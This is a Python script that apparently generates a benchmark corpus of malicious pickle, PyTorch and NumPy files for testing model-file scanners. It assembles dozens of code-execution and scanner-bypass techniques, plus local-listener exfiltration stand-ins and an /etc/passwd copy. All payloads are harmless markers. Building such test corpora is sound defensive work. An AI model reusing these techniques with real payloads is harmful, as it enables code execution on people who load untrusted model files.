#!/usr/bin/python3
"""Generates aigis's adversarial corpus: files that run code when their
real loader reads them, one or more per published technique (REFERENCE.md
sections 2 and 3, picklescan's tests and advisories). See README.md.

    /usr/bin/python3 internal/gen/attacks/gen.py [OUT]   # default /work/bench/attacks

Every payload is harmless: it creates the file "aigis-marker" in the
current directory, prints a marker, exits with status 42, or connects to a
listener the generator runs on 127.0.0.1. Each file is then loaded by its
real loader (pickle.load, torch.load, joblib.load, numpy.load with
allow_pickle, ...) in a subprocess whose working and home directory is a
fresh temporary directory, and kept only if the payload ran there.
OUT/manifest.json lists path, sha256, technique, reference, loader and the
proof; measure.py adds what aigis and picklescan say.
"""

import base64
import bz2
import codecs
import gzip
import hashlib
import io
import json
import lzma
import os
import pickle
import shutil
import socket
import struct
import subprocess
import sys
import tarfile
import tempfile
import threading
import zipfile
import zlib

PY = "/usr/bin/python3"
MARK = "aigis-marker"
CODE = "open(%r, 'w').close()" % MARK  # Python payload
SH = "touch " + MARK  # shell payload
PORT = 45871  # the listener network payloads connect to
STDOUT_MARK = "AIGIS-PAYLOAD-RAN"


# ---- a pickle assembler ------------------------------------------------------


class P:
    """Opcode-level pickle writer, for what the pickler never writes."""

    def __init__(self, proto=2):
        self.b = bytearray()
        self.proto = proto
        if proto >= 2:
            self.b += bytes([0x80, proto])

    def raw(self, b):
        self.b += b
        return self

    def glob(self, mod, name):  # GLOBAL
        return self.raw(b"c" + mod.encode() + b"\n" + name.encode() + b"\n")

    def s(self, x):  # a str: SHORT_BINUNICODE/BINUNICODE (proto >= 1), else UNICODE
        e = x.encode("utf-8")
        if self.proto == 0:  # escaped as pickle's own protocol-0 writer does
            t = x.replace("\\", "\\u005c").replace("\0", "\\u0000").replace("\n", "\\u000a").replace("\r", "\\u000d").replace("\x1a", "\\u001a")
            return self.raw(b"V" + t.encode("raw_unicode_escape") + b"\n")
        if len(e) < 256 and self.proto >= 4:
            return self.raw(b"\x8c" + bytes([len(e)]) + e)
        return self.raw(b"X" + struct.pack("<I", len(e)) + e)

    def by(self, x):  # bytes
        if self.proto < 3:
            return self.glob("_codecs", "encode").s(x.decode("latin-1")).s("latin1").t2().reduce()
        if len(x) < 256:
            return self.raw(b"C" + bytes([len(x)]) + x)
        return self.raw(b"B" + struct.pack("<I", len(x)) + x)

    def sg(self, mod, name):  # STACK_GLOBAL
        return self.s(mod).s(name).raw(b"\x93")

    def i(self, n):
        if self.proto == 0:
            return self.raw(b"I%d\n" % n)
        return self.raw(b"J" + struct.pack("<i", n))

    def none(self):
        return self.raw(b"N")

    def mark(self):
        return self.raw(b"(")

    def tup(self):
        return self.raw(b"t")

    # The unpickler runs every opcode whatever the PROTO header says, so
    # TUPLE1-3 serve protocols 0 and 1 too.
    def t1(self):
        return self.raw(b"\x85")

    def t2(self):
        return self.raw(b"\x86")

    def t3(self):
        return self.raw(b"\x87")

    def empty_tuple(self):
        return self.raw(b")")

    def empty_dict(self):
        return self.raw(b"}")

    def empty_list(self):
        return self.raw(b"]")

    def reduce(self):
        return self.raw(b"R")

    def build(self):
        return self.raw(b"b")

    def setitem(self):
        return self.raw(b"s")

    def append(self):
        return self.raw(b"a")

    def pop(self):
        return self.raw(b"0")

    def put(self, n):
        if self.proto == 0:
            return self.raw(b"p%d\n" % n)
        return self.raw(b"q" + bytes([n]))

    def get(self, n):
        if self.proto == 0:
            return self.raw(b"g%d\n" % n)
        return self.raw(b"h" + bytes([n]))

    def memo(self):
        return self.raw(b"\x94")

    def stop(self):
        return self.raw(b".")

    def call(self, mod, name, *args):
        """mod.name(*args) with str/bytes/int arguments, as GLOBAL + REDUCE."""
        self.glob(mod, name)
        self.mark()
        for a in args:
            self.arg(a)
        return self.tup().reduce()

    def arg(self, a):
        if isinstance(a, str):
            return self.s(a)
        if isinstance(a, bytes):
            return self.by(a)
        if isinstance(a, bool):
            return self.raw(b"\x88" if a else b"\x89") if self.proto >= 2 else self.raw(b"I01\n" if a else b"I00\n")
        if isinstance(a, int):
            return self.i(a)
        if a is None:
            return self.none()
        if isinstance(a, list):
            self.empty_list()
            for x in a:
                self.arg(x)
                self.append()
            return self
        if isinstance(a, tuple):
            self.mark()
            for x in a:
                self.arg(x)
            return self.tup()
        if isinstance(a, dict):
            self.empty_dict()
            for k, v in a.items():
                self.arg(k)
                self.arg(v)
                self.setitem()
            return self
        raise TypeError(a)

    def bytes(self):
        return bytes(self.b)


def call_pickle(mod, name, *args, proto=2):
    return P(proto).call(mod, name, *args).stop().bytes()


class Reduce:
    """An object whose pickle calls fn(*args) on load (the pickler's own
    output, as attackers make it)."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


# ---- proofs ----------------------------------------------------------------


class Listener:
    def __init__(self):
        self.hits = 0
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", PORT))
        self.sock.listen(16)
        threading.Thread(target=self.loop, daemon=True).start()

    def loop(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            self.hits += 1
            try:
                c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n")
            except OSError:
                pass
            c.close()


LOADERS = {
    "pickle.load": "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))",
    "pickle.load*": "import pickle,sys,os\nf=open(sys.argv[1],'rb'); n=os.path.getsize(sys.argv[1])\nwhile f.tell()<n: pickle.load(f)",
    "torch.load": "import torch,sys; torch.load(sys.argv[1])",
    "joblib.load": "import joblib,sys; joblib.load(sys.argv[1])",
    "numpy.load(allow_pickle=True)": "import numpy,sys\nr=numpy.load(sys.argv[1],allow_pickle=True)\nif hasattr(r,'files'): [r[k] for k in r.files]",
    "gzip+pickle.load": "import gzip,pickle,sys; pickle.load(gzip.open(sys.argv[1]))",
    "bz2+pickle.load": "import bz2,pickle,sys; pickle.load(bz2.open(sys.argv[1]))",
    "lzma+pickle.load": "import lzma,pickle,sys; pickle.load(lzma.open(sys.argv[1]))",
    "zlib+pickle.loads": "import zlib,pickle,sys; pickle.loads(zlib.decompress(open(sys.argv[1],'rb').read()))",
    "lz4+pickle.load": "import lz4.frame,pickle,sys; pickle.load(lz4.frame.open(sys.argv[1]))",
    "tar+pickle.load": "import tarfile,pickle,sys\nt=tarfile.open(sys.argv[1])\nfor m in t.getmembers():\n  if m.isfile() and m.name.endswith('.pkl'): pickle.load(t.extractfile(m))",
    "zip+pickle.load": "import zipfile,pickle,sys\nz=zipfile.ZipFile(sys.argv[1])\nfor n in z.namelist(): pickle.loads(z.read(n))",
    "zip+zip+pickle.load": "import zipfile,pickle,sys,io\nz=zipfile.ZipFile(sys.argv[1])\nfor n in z.namelist():\n  i=zipfile.ZipFile(io.BytesIO(z.read(n)))\n  for m in i.namelist(): pickle.loads(i.read(m))",
}


def run_loader(loader, path, listener):
    box = tempfile.mkdtemp(prefix="aigis-attack-")
    try:
        for f in [path] + EXTRA.get(path, []):
            shutil.copyfile(f, os.path.join(box, os.path.basename(f)))
        before = listener.hits
        env = {"PATH": "/usr/bin:/bin", "HOME": box, "PYTHONDONTWRITEBYTECODE": "1", "OMP_NUM_THREADS": "1"}
        try:
            p = subprocess.run([PY, "-c", LOADERS[loader], os.path.basename(path)], cwd=box, env=env, stdin=subprocess.DEVNULL,
                               capture_output=True, timeout=120)
            rc, out = p.returncode, p.stdout.decode("utf-8", "replace") + p.stderr.decode("utf-8", "replace")
        except subprocess.TimeoutExpired:
            rc, out = -1, "timeout"
        import time
        time.sleep(0.05)
        proofs = []
        if os.path.exists(os.path.join(box, MARK)):
            proofs.append("file")
        if os.path.isdir(os.path.join(box, "aigis-venv")):
            proofs.append("venv")
        if STDOUT_MARK in out or "pip " in out and " from " in out:
            proofs.append("stdout")
        if rc == 42:
            proofs.append("exit")
        if listener.hits > before:
            proofs.append("connect")
        return proofs, rc, out[-400:]
    finally:
        shutil.rmtree(box, ignore_errors=True)


EXTRA = {}  # path -> sibling files the attack's loader also needs


# ---- the attacks -------------------------------------------------------------

ATTACKS = []


def attack(name, technique, ref, loader="pickle.load", ext=".pkl", extra=None):
    def reg(fn):
        ATTACKS.append({"name": name, "technique": technique, "ref": ref, "loader": loader, "ext": ext, "build": fn, "extra": extra})
        return fn
    return reg


def simple(name, technique, ref, data, loader="pickle.load", ext=".pkl"):
    attack(name, technique, ref, loader, ext)(lambda: data)


R2 = "REFERENCE.md §2"
R3 = "REFERENCE.md §3"
PS = "picklescan tests"

# -- imports and calls in every spelling (§2) --
for proto in range(6):
    simple("os-system-p%d" % proto, "GLOBAL os.system + REDUCE, protocol %d (pickle writes posix.system)" % proto, R2,
           pickle.dumps(Reduce(os.system, SH), protocol=proto))
simple("posix-system-text", "hand-written protocol 0: cposix system, STRING, TUPLE, REDUCE", R2,
       b"cposix\nsystem\n(S'" + SH.encode() + b"'\ntR.")
simple("inst-opcode", "INST opcode (import and call in one): (S'...' ios system", R2 + "; picklescan malicious10",
       b"(S'" + SH.encode() + b"'\nios\nsystem\n.")
simple("obj-opcode", "OBJ opcode: MARK, GLOBAL, args, OBJ", R2, P(1).mark().glob("os", "system").s(SH).raw(b"o").stop().bytes())
simple("stack-global", "STACK_GLOBAL os.system (protocol 4)", R2, P(4).sg("os", "system").s(SH).t1().reduce().stop().bytes())
simple("stack-global-from-memo", "STACK_GLOBAL operands from the memo, behind decoy strings (torch, LongStorage)", R2 + "; picklescan malicious11",
       b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V" + SH.encode() + b"\ntR.")
simple("stack-global-string-opcodes", "STACK_GLOBAL of protocol-0 STRING operands, no PROTO", PS + " malicious23 (GHSA-9gvj-pp9x-gcfr)",
       b"S'os'\nS'system'\n\x93S'" + SH.encode() + b"'\n\x85R.")
simple("stack-global-computed-lower", "STACK_GLOBAL module computed at load time by str.lower('OS')", R2,
       P(4).sg("builtins", "str.lower").s("OS").t1().reduce().s("system").raw(b"\x93").s(SH).t1().reduce().stop().bytes())
simple("stack-global-computed-rot13", "STACK_GLOBAL module computed by codecs.decode('bf', 'rot13')", R2,
       P(4).sg("_codecs", "decode").s("bf").s("rot13").t2().reduce().s("system").raw(b"\x93").s(SH).t1().reduce().stop().bytes())
simple("dotted-name-reroot", "dotted name: STACK_GLOBAL('pathlib', 'os.system')", R2,
       P(4).sg("pathlib", "os.system").s(SH).t1().reduce().stop().bytes())
simple("dotted-global-opcode", "dotted name through GLOBAL under protocol 4: torch.serialization os.system", R2,
       P(4).glob("torch.serialization", "os.system").s(SH).t1().reduce().stop().bytes())
simple("ext-registered", "copyreg.add_extension('os', 'system', 0x7e) then EXT1 0x7e", R2,
       P(2).call("copyreg", "add_extension", "os", "system", 0x7e).pop().raw(b"\x82\x7e").s(SH).t1().reduce().stop().bytes())
simple("module-mutation", "BUILD on an imported module rewrites its attributes so that later STACK_GLOBALs resolve to builtins.eval",
       PS + " sys_module_override_sploit",
       P(4).s("torch._utils").memo().s("_rebuild_tensor").memo().raw(b"\x93\x94").pop().s("torch").s("_utils").raw(b"\x93\x94").pop()
       .get(3).empty_dict().get(1).s("builtins").setitem().build().pop().get(0).get(1).raw(b"\x93").get(3).empty_dict().get(1).s("eval")
       .setitem().build().pop().get(0).get(1).raw(b"\x93\x93").s("exec(%r)" % CODE).t1().reduce().stop().bytes())
simple("getattr-import", "builtins.getattr(__import__('os'), 'system')(cmd)", R2 + "; picklescan malicious12",
       P(2).glob("__builtin__", "getattr").glob("__builtin__", "__import__").s("os").t1().reduce().s("system").t2().reduce().s(SH).t1().reduce().stop().bytes())
simple("attrgetter", "operator.attrgetter('system')(importlib.import_module('os'))(cmd)", R2,
       P(2).glob("_operator", "attrgetter").s("system").t1().reduce().glob("importlib", "import_module").s("os").t1().reduce().t1().reduce()
       .s(SH).t1().reduce().stop().bytes())
simple("methodcaller-pydoc-locate", "operator.methodcaller('system', cmd)(pydoc.locate('os'))", PS + " GHSA-84r2-jw7c-4r5q",
       pickle.dumps(Reduce(__import__("operator").methodcaller("system", SH), Reduce(__import__("pydoc").locate, "os")), protocol=4))
simple("pkgutil-resolve-name", "pkgutil.resolve_name('os:system')(cmd)", PS + " GHSA-vvpj-8cmc-gx39",
       P(2).call("pkgutil", "resolve_name", "os:system").s(SH).t1().reduce().stop().bytes())
simple("partial-called", "functools.partial(os.system, cmd) called by REDUCE", PS + " malicious19",
       P(2).glob("functools", "partial").glob("posix", "system").s(SH).t2().reduce().empty_tuple().reduce().stop().bytes())
simple("copyreg-reconstructor-base", "copyreg._reconstructor(Popen, Popen, argv): an allowed helper runs Popen.__init__", R2,
       P(2).glob("copyreg", "_reconstructor").glob("subprocess", "Popen").glob("subprocess", "Popen").arg(["sh", "-c", SH]).t3().reduce().stop().bytes())

# -- allowlist-bypass gadgets (§2, picklescan advisories) --
G = [
    ("eval", "builtins", "eval", (CODE,), R2 + "; picklescan malicious1"),
    ("exec", "builtins", "exec", (CODE,), R2),
    ("runpy-run-code", "runpy", "_run_code", (CODE, {}), PS + " malicious14"),
    ("timeit", "timeit", "timeit", ("", CODE), PS + " malicious21"),
    ("cprofile-run", "cProfile", "run", (CODE,), PS + " GHSA-49gj-c84q-6qm9"),
    ("cprofile-runctx", "cProfile", "runctx", (CODE, None, None), PS + " GHSA-9w88-8rmg-7g2p"),
    ("profile-run", "profile", "run", (CODE,), PS + " GHSA-7wx9-6375-f5wh"),
    ("numpy-runstring", "numpy.testing._private.utils", "runstring", (CODE, {}), PS + " malicious22"),
    ("numpy-f2py-getlincoef", "numpy.f2py.crackfortran", "getlincoef", ("__import__('os').system(%r)" % SH, []), PS + " GHSA-r8g5-cgf2-4m4m"),
    ("torch-execwrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", (CODE, {}, {}), PS + " GHSA-vr7h-p6mm-wpmh"),
    ("torch-collect-env-run", "torch.utils.collect_env", "run", (SH,), PS + " GHSA-f745-w6jp-hpxx"),
    ("torch-bottleneck-cprofile", "torch.utils.bottleneck.__main__", "run_cprofile", (CODE, {}), PS + " GHSA-4r9r-ch6f-vxmx"),
    ("torch-bottleneck-autograd", "torch.utils.bottleneck.__main__", "run_autograd_prof", (CODE, {}), PS + " GHSA-4whj-rm5r-c2v8"),
    ("uuid-command-stdout", "uuid", "_get_command_stdout", ("touch", MARK), PS + " GHSA-g38g-8gr9-h9xp"),
    ("osx-support-read-output", "_osx_support", "_read_output", (SH,), PS + " GHSA-g38g-8gr9-h9xp"),
    ("imaplib-stream", "imaplib", "IMAP4_stream", (SH,), PS + " GHSA-g38g-8gr9-h9xp"),
    ("pydoc-pipepager", "pydoc", "pipepager", ("", SH), PS + " malicious18"),
    ("subprocess-run", "subprocess", "run", (["touch", MARK],), PS + " malicious7"),
    ("subprocess-check-output", "subprocess", "check_output", (["touch", MARK],), R2),
    ("subprocess-popen", "subprocess", "Popen", (["touch", MARK],), R2),
    ("os-popen", "os", "popen", (SH,), R2),
    ("os-spawnlp", "os", "spawnlp", (0, "touch", "touch", MARK), R2),
    ("pty-spawn", "pty", "spawn", (["sh", "-c", SH],), PS + " GHSA-vqmv-47xg-9wpr"),
    ("builtins-open", "builtins", "open", (MARK, "w"), R2),
    ("io-fileio", "_io", "FileIO", (MARK, "w"), PS + " io_FileIO"),
    ("logging-filehandler", "logging", "FileHandler", (MARK,), PS + " logging_FileHandler"),
    ("shutil-copyfile", "shutil", "copyfile", ("/etc/passwd", MARK), R2),
    ("distutils-write-file", "distutils.file_util", "write_file", (MARK, ["x"]), PS + " GHSA-m273-6v24-x4m4"),
    ("venv-create", "venv", "create", ("aigis-venv", False, False, True, False), PS + " malicious20"),
    ("pip-main", "pip", "main", (["--version"],), PS + " malicious16"),
    ("sys-exit", "sys", "exit", (42,), PS + " malicious8"),
    ("socket-connect", "socket", "create_connection", (("127.0.0.1", PORT),), PS + " malicious7 (Malicious6)"),
    ("urllib-urlopen", "urllib.request", "urlopen", ("http://127.0.0.1:%d/" % PORT,), PS + " urllib_request_urlopen"),
    ("ssl-server-certificate", "ssl", "get_server_certificate", (("127.0.0.1", PORT),), PS + " dns_exfiltration"),
    ("requests-get", "requests", "get", ("http://127.0.0.1:%d/" % PORT,), PS + " malicious4"),
    ("smtplib-connect", "smtplib", "SMTP", ("127.0.0.1", PORT, None, 2), R2),
    ("telnetlib-connect", "telnetlib", "Telnet", ("127.0.0.1", PORT), R2),
]
for name, mod, fn, args, ref in G:
    proto = 4 if "." in fn else 2
    simple("gadget-" + name, "%s.%s(...)" % (mod, fn), ref, P(proto).call(mod, fn, *args).stop().bytes())

# gadgets that need an instance of their class
for name, mod, cls, meth, ctor_args, ref in [
    ("bdb-run", "bdb", "Bdb", "run", (), PS + " malicious15"),
    ("trace-run", "trace", "Trace", "run", (0, 0), PS + " GHSA-5qwp-399c-mjwf"),
    ("profile-profile-run", "profile", "Profile", "run", (), PS + " GHSA-x696-vm39-cp64"),
    ("code-interpreter-runcode", "code", "InteractiveInterpreter", "runcode", (), PS + " GHSA-cj3c-v495-4xqh"),
]:
    simple("gadget-" + name, "%s.%s.%s(instance, code): an unbound method called on an instance built in the pickle" % (mod, cls, meth), ref,
           P(4).glob(mod, cls + "." + meth).mark().call(mod, cls, *ctor_args).s(CODE).tup().reduce().stop().bytes())
simple("gadget-lib2to3-make-label", "lib2to3 ParserGenerator.make_label(None, Grammar(), label) evals the label", PS + " GHSA-p9w7-82w4-7q8m",
       P(4).glob("lib2to3.pgen2.pgen", "ParserGenerator.make_label").mark().none().call("lib2to3.pgen2.grammar", "Grammar")
       .s('""+str(__import__("os").system(%r))' % SH).tup().reduce().stop().bytes())
simple("gadget-http-connect", "http.client.HTTPConnection.connect(HTTPConnection(host, port))", PS + " malicious3",
       P(4).glob("http.client", "HTTPConnection.connect").mark().call("http.client", "HTTPConnection", "127.0.0.1", PORT).tup().reduce().stop().bytes())
simple("gadget-pathlib-touch", "pathlib.Path.touch(PosixPath(...)): an allowed class's method", R2,
       P(4).glob("pathlib", "Path.touch").mark().call("pathlib", "PosixPath", MARK).tup().reduce().stop().bytes())
simple("gadget-ctypes-system", "getattr(ctypes.CDLL(None), 'system')(cmd)", PS + " GHSA-4675-36f9-wf6r",
       P(2).glob("__builtin__", "getattr").call("ctypes", "CDLL", None).s("system").t2().reduce().by(SH.encode()).t1().reduce().stop().bytes())
simple("gadget-compile-eval", "eval(compile(src, '', 'exec')): the Sour Pickles chain", PS + " malicious0 (Slaviero)",
       P(2).glob("__builtin__", "eval").call("__builtin__", "compile", CODE, "", "exec").t1().reduce().stop().bytes())
simple("gadget-atexit", "atexit.register(os.system, cmd): runs when the loading process exits", R2,
       P(2).glob("atexit", "register").glob("posix", "system").s(SH).t2().reduce().stop().bytes())
simple("gadget-weakref-finalize", "weakref.finalize(obj, os.system, cmd): runs when obj is collected", R2,
       P(2).glob("weakref", "finalize").call("argparse", "Namespace").glob("posix", "system").s(SH).t3().reduce().stop().bytes())


def _code_args():
    c = compile(CODE, "<x>", "exec")
    return (c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals, c.co_stacksize, c.co_flags, c.co_code,
            c.co_consts, c.co_names, c.co_varnames, c.co_filename, c.co_name, c.co_qualname, c.co_firstlineno, c.co_linetable,
            c.co_exceptiontable, c.co_freevars, c.co_cellvars)


def _codetype():
    p = P(4).glob("builtins", "eval").sg("types", "CodeType")
    p.b += pickle.dumps(_code_args(), protocol=4)[2:-1]  # the argument tuple, without PROTO and STOP
    return p.reduce().t1().reduce().stop().bytes()


simple("gadget-codetype", "types.CodeType(...) rebuilt from its fields, then eval", PS + " types_CodeType", _codetype())
simple("gadget-marshal-function", "types.FunctionType(marshal.loads(code), {}) called: what cloudpickle-style payloads do", PS + " cloudpickle_codeinjection",
       P(3).glob("types", "FunctionType").glob("marshal", "loads").by(__import__("marshal").dumps(compile(CODE, "<x>", "exec")))
       .t1().reduce().empty_dict().t2().reduce().empty_tuple().reduce().stop().bytes())

# -- nested loaders (§2) --
inner = pickle.dumps(Reduce(os.system, SH), protocol=2)
simple("nested-pickle-loads", "pickle.loads(constant payload)", R2 + "; picklescan malicious13", P(3).call("pickle", "loads", inner).stop().bytes())
simple("nested-cpickle-loads", "_pickle.loads (cPickle alias), protocol 0", PS + " malicious13a", P(0).glob("_pickle", "loads").raw(b"(").by(inner).tup().reduce().stop().bytes())
simple("nested-base64", "pickle.loads(base64.b64decode(...))", R2,
       P(3).glob("pickle", "loads").call("base64", "b64decode", base64.b64encode(inner).decode()).t1().reduce().stop().bytes())
simple("nested-zlib", "pickle.loads(zlib.decompress(...))", R2,
       P(3).glob("pickle", "loads").call("zlib", "decompress", zlib.compress(inner)).t1().reduce().stop().bytes())
simple("nested-hex-codecs", "pickle.loads(codecs.decode(hex, 'hex'))", R2,
       P(3).glob("pickle", "loads").call("_codecs", "decode", codecs.encode(inner, "hex"), "hex").t1().reduce().stop().bytes())
simple("nested-bytes-fromhex", "pickle.loads(bytes.fromhex(...))", R2,
       P(4).glob("pickle", "loads").call("builtins", "bytes.fromhex", inner.hex()).t1().reduce().stop().bytes())
simple("nested-torch-load-bytesio", "torch.load(io.BytesIO(payload)): a loader of a value built at load time", R2,
       P(3).glob("torch", "load").call("io", "BytesIO", inner).t1().reduce().stop().bytes())
simple("nested-datapipes-decoder", "torch.utils.data.datapipes.utils.decoder.basichandlers('pickle', payload)", PS + " GHSA-h3qp-7fh3-f8h4",
       P(3).call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", inner).stop().bytes())
simple("nested-yaml-unsafe", "yaml.unsafe_load of a python/object/apply document", R2,
       P(3).call("yaml", "unsafe_load", "!!python/object/apply:os.system [%r]" % SH).stop().bytes())


def _legacy_inner():
    import torch
    b = io.BytesIO()
    torch.save(Reduce(os.system, SH), b, _use_new_zipfile_serialization=False)
    return b.getvalue()


attack("nested-torch-load-from-bytes", "torch.storage._load_from_bytes(legacy torch file whose object pickle runs the payload)", R2)(
    lambda: P(3).call("torch.storage", "_load_from_bytes", _legacy_inner()).stop().bytes())

# -- malformed streams: the payload runs before the error (§2) --
evil2 = pickle.dumps(Reduce(os.system, SH), protocol=2)[:-1]  # without STOP
simple("truncated-after-payload", "stream truncated after the payload (no STOP)", R2, evil2)
simple("invalid-opcode-after-payload", "an invalid opcode after the payload", R2, evil2 + b"\xff.")
simple("exec-then-truncated-string", "exec payload, then a truncated BINUNICODE", PS + " broken_model",
       b"cbuiltins\nexec\n(X" + struct.pack("<I", len(CODE)) + CODE.encode() + b"tRX.")
simple("garbage-after-stop", "payload, STOP, then bytes that are not a pickle", PS + " malicious-invalid-bytes", evil2 + b".\n\n\t\t")
simple("keyerror-after-payload", "payload, then STACK_GLOBAL of a missing memo key", PS + " keyerror-exploit",
       P(4).glob("os", "system").s(SH).t1().reduce().pop().s("os").memo().get(3).get(0).raw(b"\x93").stop().bytes())
simple("type-confusion-after-payload", "payload, then STACK_GLOBAL of an int and a str", PS + " type-confusion-exploit",
       P(4).glob("os", "system").s(SH).t1().reduce().pop().i(42).memo().s("os").memo().get(0).get(1).raw(b"\x93").stop().bytes())
simple("frame-mismatch", "protocol 4 FRAME whose length disagrees with the opcodes", R2,
       b"\x80\x04\x95" + struct.pack("<Q", 3) + P(4).sg("os", "system").s(SH).t1().reduce().stop().bytes()[2:])
simple("second-stream", "a benign pickle, then a second stream with the payload (loaders that read every stream)", PS + " malicious6",
       pickle.dumps(["a", "b", "c"]) + pickle.dumps(Reduce(os.system, SH)), loader="pickle.load*")

# -- containers (§3) --


def torch_zip(obj, proto=2):
    import torch
    b = io.BytesIO()
    torch.save(obj, b, pickle_protocol=proto)
    return b.getvalue()


def torch_legacy(obj, proto=2):
    import torch
    b = io.BytesIO()
    torch.save(obj, b, pickle_protocol=proto, _use_new_zipfile_serialization=False)
    return b.getvalue()


def _zip_rewrite(data, fn):
    """Rewrites the members of a torch zip (stored, as torch writes)."""
    zin = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for info in zin.infolist():
            name, body, method = fn(info.filename, zin.read(info.filename))
            zi = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            zi.compress_type = method
            z.writestr(zi, body)
    return out.getvalue()


def _evil_state_dict():
    import torch
    return {"weight": torch.zeros(2), "config": Reduce(os.system, SH)}


for proto in (2, 4):
    attack("torch-zip-p%d" % proto, "torch.save zip whose data.pkl runs the payload (protocol %d)" % proto, R3, "torch.load", ".pt")(
        lambda proto=proto: torch_zip(_evil_state_dict(), proto))
attack("torch-zip-deflated", "torch zip with data.pkl deflated (torch stores; its reader inflates)", R3, "torch.load", ".pt")(
    lambda: _zip_rewrite(torch_zip(_evil_state_dict()), lambda n, b: (n, b, zipfile.ZIP_DEFLATED if n.endswith(".pkl") else zipfile.ZIP_STORED)))


def _local_name_mismatch():
    data = bytearray(torch_zip(_evil_state_dict()))
    i = data.find(b"archive/data.pkl")  # the first is the local header's
    data[i:i + 16] = b"archive/datap.kl"
    return bytes(data)


attack("torch-zip-local-name-mismatch", "local header name differs from the central directory's (torch reads the directory)", PS + " malicious1_central_directory",
       "torch.load", ".pt")(_local_name_mismatch)


def _bad_crc():
    data = bytearray(torch_zip(_evil_state_dict()))
    i = data.find(b"PK\x01\x02")
    j = data.find(b"archive/data.pkl", i)
    # the central record's CRC of data.pkl is 30 bytes before its name
    data[j - 30:j - 26] = b"\0\0\0\0"
    k = data.find(b"archive/data.pkl")
    data[k - 16:k - 12] = b"\0\0\0\0"
    return bytes(data)


attack("torch-zip-bad-crc", "torch zip with wrong CRCs for data.pkl", PS + " malicious1_crc", "torch.load", ".pt")(_bad_crc)
attack("torch-zip-prefix-renamed", "torch zip whose top directory is not the file stem", R3, "torch.load", ".pt")(
    lambda: _zip_rewrite(torch_zip(_evil_state_dict()), lambda n, b: ("weights/" + n.split("/", 1)[1], b, zipfile.ZIP_STORED)))
attack("torch-pickle-zip-polyglot", "a payload pickle followed by a valid torch zip: torch.load takes the legacy path and runs it", R3, "torch.load", ".pt")(
    lambda: pickle.dumps(Reduce(os.system, SH), protocol=2) + torch_zip({"w": 1}))
for proto in (1, 2, 4, 5):
    attack("torch-legacy-object-p%d" % proto, "legacy torch format, payload in the object pickle (protocol %d)" % proto, R3, "torch.load", ".pt")(
        lambda proto=proto: torch_legacy(_evil_state_dict(), proto))


def _legacy_parts(payload_at):
    parts = [pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2), pickle.dumps(1001, protocol=2),
             pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2),
             pickle.dumps({"a": 1}, protocol=2), pickle.dumps([], protocol=2)]
    if payload_at == 0:
        # eval returns the magic number torch checks, after running CODE
        parts[0] = P(2).glob("__builtin__", "eval").s("(%s, 0x1950A86A20F9469CFC6C)[1]" % CODE).t1().reduce().stop().bytes()
    else:
        parts[payload_at] = pickle.dumps(Reduce(os.system, SH), protocol=2)
    return b"".join(parts)


attack("torch-legacy-magic-eval", "legacy torch whose magic-number pickle is computed by eval, which also runs the payload", PS + " pytorch_magic_bypass",
       "torch.load", ".pt")(lambda: _legacy_parts(0))
attack("torch-legacy-sys-info", "legacy torch, payload in the sys_info pickle", R3, "torch.load", ".pt")(lambda: _legacy_parts(2))
attack("torch-legacy-storage-keys", "legacy torch, payload in the storage-keys pickle", R3, "torch.load", ".pt")(lambda: _legacy_parts(4))


def _np_payload_array():
    import numpy as np
    a = np.empty(2, dtype=object)
    a[0] = {"ok": 1}
    a[1] = Reduce(os.system, SH)
    return a


def _npy(version=None, fortran=False):
    import numpy as np
    from numpy.lib import format as npf
    a = _np_payload_array()
    if fortran:
        a = np.asfortranarray(np.array([[1, Reduce(os.system, SH)], [2, 3]], dtype=object))
    b = io.BytesIO()
    npf.write_array(b, a, version=version, allow_pickle=True)
    return b.getvalue()


attack("npy-object", ".npy object array whose pickle runs the payload", R3, "numpy.load(allow_pickle=True)", ".npy")(lambda: _npy())
attack("npy-object-v2", ".npy version 2.0 header, object array payload", R3, "numpy.load(allow_pickle=True)", ".npy")(lambda: _npy((2, 0)))
attack("npy-object-fortran", ".npy fortran-order object array payload", R3, "numpy.load(allow_pickle=True)", ".npy")(lambda: _npy(fortran=True))


def _npy_structured():
    import numpy as np
    a = np.array([(1, Reduce(os.system, SH))], dtype=[("id", "<i4"), ("obj", "O")])
    b = io.BytesIO()
    np.save(b, a, allow_pickle=True)
    return b.getvalue()


attack("npy-structured-object-field", ".npy structured dtype with an object field carrying the payload", R3, "numpy.load(allow_pickle=True)", ".npy")(_npy_structured)


def _npz(compressed):
    import numpy as np
    b = io.BytesIO()
    (np.savez_compressed if compressed else np.savez)(b, w=np.arange(3), x=_np_payload_array())
    return b.getvalue()


attack("npz-object", ".npz with an object-array member carrying the payload", R3, "numpy.load(allow_pickle=True)", ".npz")(lambda: _npz(False))
attack("npz-object-compressed", "compressed .npz with the payload member", R3, "numpy.load(allow_pickle=True)", ".npz")(lambda: _npz(True))
attack("npy-ssl-exfiltration", ".npy object array whose payload connects out with ssl.get_server_certificate", PS + " dns_exfiltration",
       "numpy.load(allow_pickle=True)", ".npy")(lambda: _np_save_obj(Reduce(__import__("ssl").get_server_certificate, ("127.0.0.1", PORT))))


def _np_save_obj(o):
    import numpy as np
    b = io.BytesIO()
    np.save(b, np.array([o], dtype=object), allow_pickle=True)
    return b.getvalue()


def _joblib(obj, **kw):
    import joblib
    d = tempfile.mkdtemp()
    p = os.path.join(d, "x.joblib")
    joblib.dump(obj, p, **kw)
    data = open(p, "rb").read()
